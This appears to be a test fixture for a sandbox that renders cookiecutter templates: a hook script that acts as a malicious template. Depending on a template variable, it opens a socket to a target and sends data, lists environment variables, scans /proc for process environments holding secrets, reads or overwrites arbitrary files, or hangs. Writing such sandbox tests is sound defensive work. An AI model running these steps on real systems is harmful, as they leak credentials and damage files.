"""What a malicious template could try; every attempt must fail inside the sandbox."""

import os
import socket
import sys

ATTACK = "{{ cookiecutter.attack }}"
TARGET = "{{ cookiecutter.target }}"

if ATTACK == "socket":
    host, port = TARGET.rsplit(":", 1)
    socket.create_connection((host, int(port)), timeout=3).sendall(b"leak")
    print("CONNECTED")
elif ATTACK == "environment":
    print("ENV " + " ".join(sorted(os.environ)))
    secrets = [k for k in os.environ if k in ("SECRET_KEY", "DATABASE_URL", "CELERY_BROKER_URL", "PORTAL_CANARY")]
    readable = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                readable.append(pid) if b"PORTAL_CANARY" in open(f"/proc/{pid}/environ", "rb").read() else None
            except OSError:
                pass
    if secrets or readable:
        print(f"LEAKED {secrets} {readable}")
        sys.exit(3)
elif ATTACK == "read":
    with open(TARGET, "rb") as fh:
        print(f"READ {len(fh.read())} bytes of {TARGET}")
elif ATTACK == "write":
    with open(TARGET, "w") as fh:
        fh.write("pwned")
    print(f"WROTE {TARGET}")
elif ATTACK == "loop":
    while True:
        pass
elif ATTACK == "exit":
    print("giving up on purpose", file=sys.stderr)
    sys.exit(7)
